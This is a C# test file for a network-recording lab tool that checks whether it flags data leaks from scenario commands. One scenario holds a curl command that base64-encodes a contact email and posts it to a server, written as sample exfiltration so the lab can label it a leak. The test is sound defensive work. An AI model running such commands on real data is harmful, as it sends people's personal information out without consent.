namespace Offproof.Lab.Tests;

/// <summary>docs/lab.md §7: without privileges a recorder, and what it cannot see is said.</summary>
public sealed class UnsealedTests
{
    [Fact]
    public async Task Without_namespaces_what_comes_to_the_front_is_recorded_audited_and_matched()
    {
        LabReport report = await RunAsync("""
            sink 443
            section honest
            run curl -sf $SERVER/version
            expect CLEAN
            section a contact
            run curl -sf --data-urlencode "c=$(printf 'gasopatobanesobe@example.net' | base64 -w0)" $SERVER/sync
            expect LEAK
            """);
        Assert.True(report is { Result: "held", Isolation: "none" }, Lab.Text(report));
        Assert.True(report.Control.Seen);
        Assert.Contains("base64", Assert.Single(report.Sections[2].Findings, static finding => finding.Kind == "contact-email").Chain);
        Assert.Contains(LabText.Lines(report), static line => line.StartsWith("isolation none", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_server_of_a_run_ends_with_it()
    {
        const string Server = "server perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(LocalAddr=>\"127.0.0.1:8750\",Listen=>5,ReuseAddr=>1) or die; while(my $c=$s->accept){close $c}'\nrun true\n";
        // The second could not begin beside the first.
        for (int run = 0; run < 2; run++) Assert.Equal("held", (await RunAsync(Server)).Result);
    }

    [Fact]
    public async Task A_call_past_the_recorder_is_named()
    {
        LabReport report = await RunAsync("sink 443\nrun any curl -s -m 2 http://127.0.0.1:9/\n");
        Assert.Equal("broken", report.Result);
        Assert.Contains("a call to 127.0.0.1:9, which is not recorded", Assert.Single(report.Crossings).Call, StringComparison.Ordinal);
    }

    static async Task<LabReport> RunAsync(string scenario)
    {
        string folder = Directory.CreateTempSubdirectory("offproof-lab-test-").FullName, persona = Path.Combine(folder, "persona.json"), file = Path.Combine(folder, "scenario.txt");
        await File.WriteAllTextAsync(persona, Lab.Persona);
        await File.WriteAllTextAsync(file, scenario);
        LabReport report = await Laboratory.RunAsync(new LabRequest(file, null, persona, null, static _ => { }) { WithoutPrivileges = true }, TestContext.Current.CancellationToken);
        Directory.Delete(folder, recursive: true);
        return report;
    }
}
